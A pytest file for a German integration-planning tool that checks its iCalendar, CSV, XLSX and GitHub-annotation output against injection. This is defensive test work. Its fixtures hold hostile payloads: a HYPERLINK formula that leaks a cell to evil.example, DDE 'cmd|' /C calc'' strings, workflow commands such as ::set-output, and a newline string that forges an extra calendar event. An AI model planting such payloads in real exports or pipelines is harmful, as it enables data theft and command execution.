"""Hostile concept text in what integ hands to other programs (issue 14.15, the
privacy and security half): iCalendar newline injection, spreadsheet formulas in
exports, GitHub workflow commands in annotations."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from .conftest import TODAY, run_cli
from .test_diff import GAGGENAU, edit, git

# CR and ESC are findings of their own now (loader: control characters); a line feed in
# a text is allowed, so it is what an attacker has left
ICS_TITLE = "Sprachcafé\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:Boese\nUID:x"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
    " =1+1",
    "\uff1dcmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
]
TITLES = [
    "Lerntreff Deutsch in Bad Rotenfels und Ottenau",
    "Elterncafés in Kitas und Grundschulen",
    "Hausaufgabenhilfe für Grundschulkinder in der Anschlussunterbringung",
    "Betriebsbesuche und Praktikumsbörse mit Gaggenauer Unternehmen",
    "Bewerbungswerkstatt im Jugendzentrum",
    "Sprechstunde des Jobcenters im Rathaus",
    "Integrationsmanagement in der städtischen Anschlussunterbringung",
]


@pytest.fixture
def hostile(example: Path) -> Path:
    path = example / GAGGENAU
    edit(path, "title: Sprachcafé in der Stadtbibliothek", f"title: {json.dumps(ICS_TITLE)}")
    edit(
        path,
        "    status: permanent\n    start: 2016\n",
        "    status: permanent\n    start: 2016\n    end: 2027-12\n",
    )
    for title, formula in zip(TITLES, FORMULAS):
        edit(path, f"    title: {title}\n", f"    title: {json.dumps(formula)}\n")
    return example


def test_ics_titles_cannot_break_out_of_their_event(hostile: Path) -> None:
    from icalendar import Calendar

    result = run_cli("export", "--to", "ics", "-o", "t.ics", "--today", TODAY, cwd=hostile)
    assert result.code == 0, result.err
    raw = (hostile / "t.ics").read_bytes()
    assert b"\x1b" not in raw
    assert re.search(rb"\r(?!\n)|(?<!\r)\n", raw) is None  # only CRLF ends a line
    lines = raw.decode("utf-8").split("\r\n")
    cal = Calendar.from_ical(raw)
    events = [c for c in cal.walk("VEVENT")]
    assert len(events) == lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT")
    summaries = [str(e["SUMMARY"]) for e in events]
    assert "Boese" not in summaries
    (hit,) = [s for s in summaries if s.startswith("Maßnahme endet: Stadt Gaggenau: M-SPR-01")]
    assert hit == (
        "Maßnahme endet: Stadt Gaggenau: M-SPR-01 Sprachcafé END:VEVENT BEGIN:VEVENT "
        "SUMMARY:Boese UID:x"
    )
    assert all("\n" not in s and "\r" not in s for s in summaries)
    assert all("\n" not in str(e["DESCRIPTION"]) for e in events)


@pytest.mark.parametrize("plain", [False, True], ids=["excel", "plain"])
def test_csv_cells_never_start_a_formula(hostile: Path, plain: bool) -> None:
    args = ["export", "--to", "csv", "--table", "measures", "-o", "m.csv", "--today", TODAY]
    result = run_cli(*args, *(["--plain"] if plain else []), cwd=hostile)
    assert result.code == 0, result.err
    text = (hostile / "m.csv").read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter="," if plain else ";"))
    cells = [c for row in rows for c in row]
    for formula in FORMULAS:
        assert "'" + formula in cells  # shown as text, quoted for every spreadsheet
    starts = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    assert not [c for c in cells if c.lstrip(" \u00a0")[:1] in starts]


def test_xlsx_cells_are_text_never_formulas(hostile: Path) -> None:
    result = run_cli("export", "--to", "xlsx", "-o", "x.xlsx", "--today", TODAY, cwd=hostile)
    assert result.code == 0, result.err
    with zipfile.ZipFile(hostile / "x.xlsx") as z:
        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if "worksheets/" in n]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    assert any("=HYPERLINK" in s for s in sheets)  # the text is there, as a string


WORKFLOW = "x\n::set-output name=a::b\n::error file=a::boese%0A::add-mask::q"


@pytest.fixture
def commands(example: Path) -> Path:
    path = example / GAGGENAU
    edit(
        path,
        "    status: permanent\n    start: 2016\n",
        f"    status: {json.dumps(WORKFLOW)}\n    start: 2016\n",
    )
    edit(path, "goals: [Z-SPR-1]", f"goals: [{json.dumps('Z-X' + chr(10) + '::warning::w')}]")
    return example


def _only_annotations(out: str) -> None:
    lines = out.splitlines()
    assert lines
    for line in lines:
        assert re.match(r"::(error|warning|notice) file=[^\n]*::|integ: ", line), line


def test_annotations_carry_no_workflow_command(commands: Path) -> None:
    result = run_cli("validate", "--format", "github", "--today", TODAY, cwd=commands)
    assert result.code == 1
    _only_annotations(result.out)
    assert "x%0A::set-output name=a::b%0A::error file=a" in result.out


def test_the_pull_request_check_in_actions_carries_none(commands: Path, tmp_path: Path) -> None:
    git(commands, "init", "-q", "-b", "main")
    git(commands, "add", "-A")
    git(commands, "commit", "-q", "-m", "Stand")
    edit(commands / GAGGENAU, 'version: "1.0"', 'version: "1.1"')
    step = tmp_path / "step.md"
    result = run_cli(
        "check",
        "--base",
        "HEAD",
        "--today",
        TODAY,
        cwd=commands,
        env={"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(step)},
    )
    assert result.code == 1
    _only_annotations(result.out)
    assert not re.search(r"(?m)^::", step.read_text(encoding="utf-8"))
